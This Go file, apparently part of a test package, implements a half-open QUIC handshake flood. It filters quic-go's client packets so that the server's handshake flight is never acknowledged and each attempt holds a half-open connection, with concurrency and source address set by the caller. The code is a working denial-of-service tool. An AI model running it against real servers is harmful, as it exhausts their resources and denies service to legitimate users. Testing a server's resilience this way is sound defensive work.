package floodtest

import (
	"context"
	"crypto/tls"
	"errors"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/quic-go/quic-go"
)

// Half-open QUIC handshakes (issue 33, item 2): one address starts QUIC handshakes and
// drops what follows its ClientHello. Each attempt's first datagram (its Initial with the
// ClientHello) goes out, and so does the first one after a Retry (the ClientHello again,
// with the Retry's token: an attacker that proves its address); nothing else does, and
// nothing the server sends reaches the client but Retry packets. So the server's
// handshake flight is never acknowledged, and each attempt holds a half-open connection
// on the server until the server gives up on it. The client is quic-go's own, its
// packets filtered by halfOpenConn.

// HalfOpen is one half-open QUIC flood.
type HalfOpen struct {
	// Addr is the server's UDP address, SNI the name asked for; From the source address.
	Addr, SNI string
	From      net.IP
	// Concurrency attempts are in progress at once, each given up after Attempt.
	Concurrency int
	Attempt     time.Duration
	// Refusals, when set, is counted up as each refusal arrives (HalfOpenResult.Refused
	// at the end): the caller's view during the flood.
	Refusals *atomic.Int64
}

// HalfOpenResult is what a half-open flood did, from the attacker's side.
type HalfOpenResult struct {
	// Attempts were started; Retries answered with a Retry; Refused ended by the server
	// (CONNECTION_REFUSED or another error it sent back) rather than given up.
	Attempts, Retries, Refused int64
}

// RunHalfOpen floods until ctx ends.
func RunHalfOpen(ctx context.Context, h HalfOpen) (HalfOpenResult, error) {
	udp, err := net.ListenUDP("udp", &net.UDPAddr{IP: h.From})
	if err != nil {
		return HalfOpenResult{}, err
	}
	raddr, err := net.ResolveUDPAddr("udp", h.Addr)
	if err != nil {
		udp.Close()
		return HalfOpenResult{}, err
	}
	hc := &halfOpenConn{PacketConn: udp, sent: make(map[string]struct{})}
	tr := &quic.Transport{Conn: hc}
	defer func() {
		_ = tr.Close()
		_ = udp.Close()
	}()
	var res HalfOpenResult
	var wg sync.WaitGroup
	for range max(h.Concurrency, 1) {
		wg.Go(func() {
			for ctx.Err() == nil {
				atomic.AddInt64(&res.Attempts, 1)
				actx, cancel := context.WithTimeout(ctx, h.Attempt)
				c, err := tr.Dial(actx, raddr, &tls.Config{ServerName: h.SNI, InsecureSkipVerify: true, NextProtos: []string{"h3"}},
					&quic.Config{HandshakeIdleTimeout: h.Attempt})
				cancel()
				if err == nil {
					_ = c.CloseWithError(0, "") // cannot happen: the server's flight never arrives
					continue
				}
				var te *quic.TransportError
				if errors.As(err, &te) && te.Remote {
					atomic.AddInt64(&res.Refused, 1)
					if h.Refusals != nil {
						h.Refusals.Add(1)
					}
				}
			}
		})
	}
	wg.Wait()
	res.Retries = hc.retries.Load()
	return res, nil
}

// halfOpenConn lets out the first datagram to each destination connection ID and lets in
// only Retry packets.
type halfOpenConn struct {
	net.PacketConn
	mu      sync.Mutex
	sent    map[string]struct{}
	retries atomic.Int64
}

// longHeaderDCID is the destination connection ID of a long-header QUIC packet, and its
// type bits (0 Initial, 3 Retry); ok false for anything else.
func longHeaderDCID(b []byte) (dcid []byte, typ byte, ok bool) {
	if len(b) < 7 || b[0]&0x80 == 0 {
		return nil, 0, false
	}
	n := int(b[5])
	if len(b) < 6+n {
		return nil, 0, false
	}
	return b[6 : 6+n], (b[0] >> 4) & 3, true
}

func (c *halfOpenConn) WriteTo(b []byte, addr net.Addr) (int, error) {
	dcid, _, ok := longHeaderDCID(b)
	if !ok {
		return len(b), nil // dropped
	}
	c.mu.Lock()
	_, seen := c.sent[string(dcid)]
	if !seen {
		if len(c.sent) > 1<<16 {
			clear(c.sent) // old attempts' IDs; a new attempt picks a new random one
		}
		c.sent[string(dcid)] = struct{}{}
	}
	c.mu.Unlock()
	if seen {
		return len(b), nil
	}
	return c.PacketConn.WriteTo(b, addr)
}

func (c *halfOpenConn) ReadFrom(b []byte) (int, net.Addr, error) {
	for {
		n, addr, err := c.PacketConn.ReadFrom(b)
		if err != nil {
			return n, addr, err
		}
		if _, typ, ok := longHeaderDCID(b[:n]); ok && typ == 3 {
			c.retries.Add(1)
			return n, addr, nil
		}
		if n > 0 && b[0]&0x80 != 0 && connectionClose(b[:n]) {
			return n, addr, nil
		}
	}
}

// connectionClose reports a packet that may carry the server's refusal: an Initial
// packet small enough to hold nothing but a CONNECTION_CLOSE (a handshake flight's
// Initial carries the ServerHello and is padded with Handshake packets well beyond).
func connectionClose(b []byte) bool {
	_, typ, ok := longHeaderDCID(b)
	return ok && typ == 0 && len(b) < 200
}
